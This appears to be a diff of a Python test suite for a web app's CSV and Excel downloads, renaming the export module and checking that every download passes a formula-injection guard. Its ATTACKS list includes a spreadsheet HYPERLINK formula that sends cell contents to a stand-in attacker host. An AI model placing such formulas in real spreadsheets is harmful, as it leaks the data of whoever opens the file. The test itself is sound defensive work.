@@ -14,7 +14,7 @@ from hypothesis import strategies as st
 from openpyxl import load_workbook
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
-from ui.export import FORMULA_PREFIXES, excel_safe, to_csv_bytes, to_excel_bytes
+from ui.downloads import FORMULA_PREFIXES, excel_safe, to_csv_bytes, to_excel_bytes
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example?x="&A1,"Click")',
@@ -188,7 +188,7 @@ PAGE_SCRIPTS = ["app.py", *sorted(f"pages/{p.name}" for p in (APP / "pages").glo
 
 
 def test_no_download_bypasses_the_safe_export():
-    """Only ui/tables.py draws download buttons, and only ui/export.py writes CSV or Excel: a
+    """Only ui/tables.py draws download buttons, and only ui/downloads.py writes CSV or Excel: a
     new st.download_button or to_csv elsewhere in the app would skip the formula guard."""
     offenders = []
     for path in [APP / "app.py", *(APP / "pages").glob("*.py"), *(APP / "ui").glob("*.py")]:
@@ -196,7 +196,7 @@ def test_no_download_bypasses_the_safe_export():
         source = path.read_text(encoding="utf-8")
         for pattern, allowed in [
             (r"\bdownload_button\s*\(", {"ui/tables.py"}),
-            (r"\.to_csv\s*\(|\.to_excel\s*\(|\bExcelWriter\b|\bxlsxwriter\b", {"ui/export.py"}),
+            (r"\.to_csv\s*\(|\.to_excel\s*\(|\bExcelWriter\b|\bxlsxwriter\b", {"ui/downloads.py"}),
         ]:
             if rel not in allowed and re.search(pattern, source):
                 offenders.append(f"{rel}: {pattern}")
@@ -290,7 +290,7 @@ def test_every_download_of_every_page_is_formula_safe(script, monkeypatch, tmp_p
         at.session_state["source"] = upload_source("hostile.csv", _hostile_sample(), "EUR")
     at.run()
     assert not at.exception, [e.value for e in at.exception]
-    if script == "app.py":
+    if script in ("app.py", "pages/0_Overview.py"):
         assert offered == []  # the overview has no table
         return
     assert offered, f"{script} offers no download"
